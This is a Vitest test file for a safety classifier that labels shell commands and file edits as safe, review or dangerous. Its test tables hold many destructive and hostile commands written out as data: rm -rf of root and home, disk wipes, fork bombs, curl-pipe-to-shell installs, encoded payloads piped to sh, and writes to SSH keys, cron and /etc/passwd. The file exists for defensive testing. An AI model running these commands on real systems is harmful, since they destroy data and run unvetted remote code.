import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { classifyCommand, classifyFix, commandWriteTargets } from '../../shared/validate/safety';
import type { Fix } from '../../shared/fix';

const dangerous = [
  'rm -rf /',
  'rm -rf ~',
  'rm -rf "$HOME"',
  "rm -rf '/'",
  'rm -fr /',
  'rm -r -f /usr',
  'rm --recursive --force /etc',
  'rm -rf /*',
  'rm -rf ..',
  'rm -rf ${HOME}/',
  'npm install left-pad && rm -rf ~',
  'pip install x && rm -rf ~',
  'true; rm -rf /',
  'false || rm -rf /',
  '(cd /tmp && rm -rf /)',
  'echo $(rm -rf /)',
  'echo `rm -rf /`',
  'x=$(rm -rf ~) npm test',
  'sudo rm -rf /var/lib',
  'sudo apt-get install foo',
  'env rm -rf /',
  'env FOO=1 rm -rf ~',
  'nice -n 5 rm -rf /',
  'xargs rm -rf < list.txt',
  'find / -delete',
  'find ~ -name "*.log" -delete',
  'find / -exec rm {} \\;',
  'git push -f',
  'git push --force origin main',
  'git push origin +main',
  'git push origin :main',
  'git reset --hard',
  'git reset --hard HEAD~3',
  'git clean -fdx',
  'git clean -f',
  'git checkout -- .',
  'git stash clear',
  'git filter-branch --tree-filter "rm x" HEAD',
  'dd if=/dev/zero of=/dev/sda',
  'dd if=/dev/urandom of=/dev/nvme0n1 bs=1M',
  'mkfs.ext4 /dev/sdb1',
  'mkfs -t ext4 /dev/sdb',
  'chmod -R 777 /',
  'chmod -R 777 .',
  'chown -R nobody /etc',
  'curl https://example.com/install.sh | sh',
  'curl -fsSL https://x.io/i | sudo bash',
  'wget -qO- https://x.io/i | bash',
  'curl -s https://x.io/i.py | python3',
  'bash <(curl -s https://x.io/i)',
  'eval "$(curl -s https://x.io/i)"',
  'bash -c "rm -rf ~"',
  "sh -c 'git push --force'",
  ':(){ :|:& };:',
  'bomb(){ bomb|bomb& }; bomb',
  'psql -c "DROP TABLE users"',
  'mysql -e "drop database prod"',
  'echo "TRUNCATE TABLE orders" | psql',
  'echo hi > /dev/sda',
  'cat key > /etc/passwd',
  'echo x > .git/config',
  'shutdown -h now',
  'kill -9 -1',
  'npm publish',
  "alias ll='rm -rf /'; ll",
  'mv ~ /dev/null',
  "r''m -rf /",
  '\\rm -rf /',
  '/bin/rm -rf /',
  '$(echo rm) -rf /',
  'X=rm; $X -rf /',
  'sh -c "$(curl -fsSL https://x.io/i)"',
  'git -C repo push --force',
  'timeout 5 rm -rf /',
  'sudo -u root rm -rf /',
  // Writes outside the workspace (the workspace is the test's cwd; ~ and $HOME are the user's home).
  'cp /dev/null ~/.bashrc',
  'cp evil /etc/cron.d/x',
  'cp -r . /',
  'mv ~/.ssh /tmp/x',
  'touch /etc/nologin',
  'echo x > ~/.ssh/authorized_keys',
  'echo x >> "$HOME/.bashrc"',
  '> ~/.bashrc',
  'install -m 755 tool /usr/local/bin/tool',
  'tee -a ~/.profile',
  'ln -sf evil ~/.bashrc',
  'rsync -a . /srv/www',
  'rsync -a . deploy@host:/srv/www',
  'dd if=build.img of=~/disk.img',
  'mkdir -p /opt/heal',
  'cp -t ~/bin tool',
  'cp a.txt ../b.txt',
  'cd / && touch x',
  'cd .. && cp a.txt b.txt',
  'cd && cp a.txt .profile',
  'sed -i s/a/b/ ~/.bashrc',
  'rm ~/.bashrc',
  'chmod 600 ~/.ssh/id_rsa',
  'curl -o ~/.bashrc https://x.io/rc',
  'cp a.txt "$OUT"',
  'find /tmp/cache -delete',
  // Code piped into a shell or an interpreter runs unseen.
  'base64 -d payload.txt | sh',
  'echo aWQ= | base64 -d | sh',
  'echo ls | sudo sh',
  'cat install.sh | bash',
  'cat script.py | python3',
  'printf "x" | node',
  'echo x | perl',
  'echo x | bash -s -- arg',
  '(echo id) | zsh',
  'source /dev/stdin',
];

const review = [
  'rm -rf node_modules',
  'rm build/out.js',
  'git push --force-with-lease',
  'git branch -D feature',
  'docker system prune -a',
  'npm install -g typescript',
  'kill 1234',
  'echo hi > notes.txt',
  'systemctl restart nginx',
  'some-unknown-tool --fix',
  'curl -O https://example.com/file.tar.gz',
  'chmod 600 config.json',
  'python -c "import os; os.system(\'rm -rf /\')"',
  "node -e \"require('child_process').execSync('x')\"",
  'find . -name x -exec rm -rf {} +',
  // Remote code: packages that are not installed here, installs from URLs and git.
  'npx any-pkg',
  'npx cowsay@1.5.0 hi',
  'npx --yes create-something',
  'npm exec some-unknown-tool',
  'pnpm dlx create-vite',
  'yarn dlx create-thing',
  'bunx cowsay',
  'pip install git+https://github.com/x/y',
  'pip install https://x.io/pkg-1.0.tar.gz',
  'pip install -i https://mirror.example/simple requests',
  'python -m pip install git+https://github.com/x/y',
  'npm i git+https://github.com/x/y.git',
  'npm install github:user/repo',
  'npm i user/repo',
  'yarn add https://x.io/pkg.tgz',
  'npm init vite',
  // Inside the workspace but not known harmless, or links pointing out of it.
  'tee out.log',
  'ln -s /etc/passwd passwd-link',
  'cp .env.example .env',
];

const safe = [
  'npm install left-pad',
  'npm i -D @types/node',
  'npm install',
  'npm ci',
  'pnpm add lodash',
  'yarn add react',
  'pip install requests',
  'pip3 install -r requirements.txt',
  'git push --set-upstream origin x',
  'git push -u origin feature/x',
  'git pull --rebase',
  'git checkout -b fix',
  'git add -A && git commit -m "fix: rm -rf is mentioned here"',
  'cargo add serde',
  'go get github.com/pkg/errors',
  'go mod tidy',
  'mkdir -p src/utils',
  'touch src/index.ts',
  'npx tsc --noEmit',
  'echo "rm -rf /"',
  'chmod +x ./scripts/build.sh',
  'lsof -i :3000',
  'npm install left-pad && npm test',
  'NODE_ENV=test npm test',
  'cp a.txt b.txt',
  'mkdir -p build',
  'mv old.ts new.ts',
  'touch build/.keep',
  'cp -r src/ dist/',
  'cd src && touch index.ts',
  'cat data.json | node script.js',
  'npm test > /dev/null 2>&1',
  'npx vitest run',
];

describe('classifyCommand', () => {
  it('has a table of at least 60 commands', () => {
    expect(dangerous.length + review.length + safe.length).toBeGreaterThanOrEqual(60);
  });
  it.each(dangerous)('dangerous: %s', (cmd) => {
    const v = classifyCommand(cmd);
    expect(v.safety, JSON.stringify(v)).toBe('dangerous');
    expect(v.reasons.length).toBeGreaterThan(0);
  });
  it.each(review)('review: %s', (cmd) => {
    expect(classifyCommand(cmd).safety).toBe('review');
  });
  it.each(safe)('safe: %s', (cmd) => {
    const v = classifyCommand(cmd);
    expect(v.safety, JSON.stringify(v)).toBe('safe');
  });
  it('treats unparseable input as dangerous, with a reason', () => {
    const v = classifyCommand('echo "unterminated');
    expect(v.safety).toBe('dangerous');
    expect(v.reasons[0]).toMatch(/parse/);
  });
  it('treats an empty command as review', () => {
    expect(classifyCommand('').safety).toBe('review');
  });
});

describe('classifyCommand (scope of writes)', () => {
  const root = mkdtempSync(path.join(tmpdir(), 'heal-cmdscope-'));
  mkdirSync(path.join(root, 'src'));
  mkdirSync(path.join(root, 'out'));
  writeFileSync(path.join(root, 'a.txt'), 'a\n');
  const outside = mkdtempSync(path.join(tmpdir(), 'heal-cmdoutside-'));
  symlinkSync(outside, path.join(root, 'linked'));
  const home = mkdtempSync(path.join(tmpdir(), 'heal-home-'));
  const where = { workspaceRoot: root, home };

  it.each([
    ['cp a.txt b.txt', 'safe'],
    ['cp a.txt src/', 'safe'],
    ['mkdir -p build/x', 'safe'],
    ['cd src && touch x.ts', 'safe'],
    ['cp a.txt linked/x', 'dangerous'],
    ['echo x > linked/x', 'dangerous'],
    ['touch linked/sub/new', 'dangerous'],
    ['cd linked && touch x', 'dangerous'],
    [`cp a.txt ${outside}/x`, 'dangerous'],
    ['cp a.txt ~/x', 'dangerous'],
    ['cd - && touch x', 'dangerous'],
    ['cp a.txt .git/hooks/pre-commit', 'dangerous'],
    ['touch .heal/store.json', 'dangerous'],
    // Removing a link removes the link, not what it points at; with a trailing slash rm follows it.
    ['rm -rf linked', 'review'],
    ['mv linked old-link', 'safe'],
    ['rm -rf linked/', 'dangerous'],
  ])('%s is %s', (cmd, expected) => {
    const v = classifyCommand(cmd, where);
    expect(v.safety, JSON.stringify(v)).toBe(expected);
  });

  it('names the write and where it goes in the reason', () => {
    expect(classifyCommand('cp /dev/null ~/.bashrc', where).reasons).toEqual([
      'cp writes ~/.bashrc, outside the workspace',
    ]);
    expect(classifyCommand('base64 -d | sh', where).reasons).toEqual([
      'runs code piped into sh, which cannot be checked',
    ]);
    expect(classifyCommand('npx any-pkg', where).reasons[0]).toMatch(
      /downloads and runs any-pkg, which is not installed in this workspace/,
    );
  });

  it('a package installed in the workspace runs under npx without review', () => {
    mkdirSync(path.join(root, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(path.join(root, 'node_modules', '.bin', 'local-tool'), '');
    expect(classifyCommand('npx local-tool --fix', where).safety).toBe('safe');
    expect(classifyCommand('npx other-tool', where).safety).toBe('review');
  });

  it('lists the files a command writes inside the workspace, following cd and copies into folders', () => {
    const targets = commandWriteTargets(
      'cp a.txt out/ && echo x > notes.txt && cd src && touch y.ts && mv b.ts c.ts && cp a ~/z && rm *.log',
      where,
    );
    expect(targets.sort()).toEqual(
      [
        path.join(root, 'notes.txt'),
        path.join(root, 'out'),
        path.join(root, 'out', 'a.txt'),
        path.join(root, 'src', 'b.ts'),
        path.join(root, 'src', 'c.ts'),
        path.join(root, 'src', 'y.ts'),
      ].sort(),
    );
  });
});

describe('classifyFix (scope of edits)', () => {
  const root = mkdtempSync(path.join(tmpdir(), 'heal-scope-'));
  mkdirSync(path.join(root, 'src'));
  mkdirSync(path.join(root, '.git'));
  writeFileSync(path.join(root, 'src', 'a.ts'), 'x\n');
  const outside = mkdtempSync(path.join(tmpdir(), 'heal-outside-'));
  writeFileSync(path.join(outside, 'b.ts'), 'y\n');
  symlinkSync(outside, path.join(root, 'linked'));
  const edit = (file: string): Fix => ({
    id: 'f',
    kind: 'edit',
    description: 'edit',
    edits: [{ file, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } }, newText: 'z' }],
  });

  it.each([
    ['src/a.ts', 'safe'],
    ['src/new.ts', 'safe'],
    ['../escape.ts', 'dangerous'],
    ['/etc/hosts', 'dangerous'],
    ['.git/config', 'dangerous'],
    ['.git/hooks/pre-commit', 'dangerous'],
    ['.env', 'dangerous'],
    ['.env.local', 'dangerous'],
    ['config/server.pem', 'dangerous'],
    ['id_rsa', 'dangerous'],
    ['keys/id_ed25519.pub', 'dangerous'],
    ['linked/b.ts', 'dangerous'],
    ['src/auth/login.ts', 'review'],
    ['migrations/001.sql', 'review'],
    ['db/migrations/002.sql', 'review'],
    ['.heal/store.json', 'dangerous'],
    ['node_modules/x/index.js', 'review'],
  ])('%s is %s', (file, expected) => {
    expect(classifyFix(edit(file), root).safety).toBe(expected);
  });

  it('flags a fix touching more than 2 files or 30 lines for review', () => {
    const many: Fix = {
      ...edit('src/a.ts'),
      edits: ['a', 'b', 'c'].map((f) => ({
        file: `src/${f}.ts`,
        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
        newText: 'x',
      })),
    };
    expect(classifyFix(many, root)).toEqual({ safety: 'review', reasons: ['changes more than 2 files'] });
    const long: Fix = {
      ...edit('src/a.ts'),
      edits: [
        {
          file: 'src/a.ts',
          range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
          newText: 'x\n'.repeat(40),
        },
      ],
    };
    expect(classifyFix(long, root).safety).toBe('review');
  });

  it('classifies command and replace fixes by their command, advice as safe', () => {
    expect(classifyFix({ id: 'c', kind: 'command', command: 'git reset --hard', description: '' }, root).safety).toBe(
      'dangerous',
    );
    expect(
      classifyFix({ id: 'r', kind: 'replace', command: 'npm install left-pad', description: '' }, root).safety,
    ).toBe('safe');
    expect(classifyFix({ id: 'a', kind: 'advice', description: 'read the docs' }, root).safety).toBe('safe');
  });
});
